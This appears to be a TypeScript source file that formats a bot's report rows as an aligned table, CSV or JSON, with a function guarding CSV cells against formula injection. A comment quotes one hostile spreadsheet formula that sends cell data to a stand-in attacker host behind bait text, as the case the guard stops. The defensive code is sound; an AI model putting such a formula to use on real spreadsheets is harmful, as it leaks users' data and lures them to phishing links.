/**
 * How every `kfbot report` prints its rows: an aligned table for people, CSV for spreadsheets,
 * JSON for programs (the rows as they are). A report lists its columns once; a column may appear
 * in the table, in the CSV, or both, under its own head in each.
 */

export const REPORT_FORMATS = ['table', 'csv', 'json'] as const;
export type ReportFormat = (typeof REPORT_FORMATS)[number];

export interface Column<R> {
  /** Its head in the table; without one the column is CSV only. */
  table?: string;
  /** Its head in the CSV; without one the column is table only. */
  csv?: string;
  cell(row: R): string | number;
}

/** Prints `rows`; `empty` is what the table says when there are none. */
export function formatRows<R>(
  rows: readonly R[],
  columns: readonly Column<R>[],
  format: ReportFormat,
  empty: string,
): string {
  if (format === 'json') return `${JSON.stringify(rows, null, 2)}\n`;
  if (format === 'csv') {
    const cols = columns.filter((c) => c.csv !== undefined);
    const lines = [cols.map((c) => csvField(c.csv as string)).join(',')];
    for (const row of rows) lines.push(cols.map((c) => csvField(c.cell(row))).join(','));
    return `${lines.join('\n')}\n`;
  }
  if (rows.length === 0) return `${empty}\n`;
  const cols = columns.filter((c) => c.table !== undefined);
  const header = cols.map((c) => c.table as string);
  const table = rows.map((row) => cols.map((c) => String(c.cell(row)) || '–'));
  const widths = header.map((h, i) => Math.max(width(h), ...table.map((r) => width(r[i] as string))));
  const line = (cells: string[]) =>
    cells
      .map((c, i) => c + ' '.repeat((widths[i] as number) - width(c)))
      .join('  ')
      .trimEnd();
  return `${[line(header), ...table.map(line)].join('\n')}\n`;
}

/**
 * One CSV cell. Text that a spreadsheet would run as a formula (starting with =, +, -, @, a tab
 * or a carriage return: OWASP's "CSV injection" rule) gets a leading ' so it shows as typed:
 * customer text such as `=HYPERLINK("http://evil.example/?"&A1,"点我领红包")` reaches these files.
 * Numbers stay numbers.
 */
export function csvField(v: string | number): string {
  const s = typeof v === 'number' ? String(v) : /^[=+\-@\t\r]/.test(v) ? `'${v}` : v;
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * Written before CSV: Excel on Chinese Windows reads a CSV without it in the local code page
 * (GBK), showing UTF-8 Chinese as 乱码. `--no-bom` leaves it out for tools that mind it.
 */
export const UTF8_BOM = '\uFEFF';

/**
 * East Asian wide and full-width characters and emoji (Unicode's "W" and "F"): two columns in a
 * terminal. Arrows, dashes and other symbols of ambiguous width are counted as one, as most
 * terminals outside CJK locales draw them.
 */
const WIDE =
  /[\u1100-\u115f\u2e80-\u303e\u3041-\ua4cf\uac00-\ud7a3\uf900-\ufaff\ufe30-\ufe4f\uff00-\uff60\uffe0-\uffe6\u{1f300}-\u{1f64f}\u{1f900}-\u{1f9ff}\u{20000}-\u{3fffd}]/u;

/** Columns a string takes in a terminal. */
function width(s: string): number {
  return [...s].reduce((n, ch) => n + (WIDE.test(ch) ? 2 : 1), 0);
}
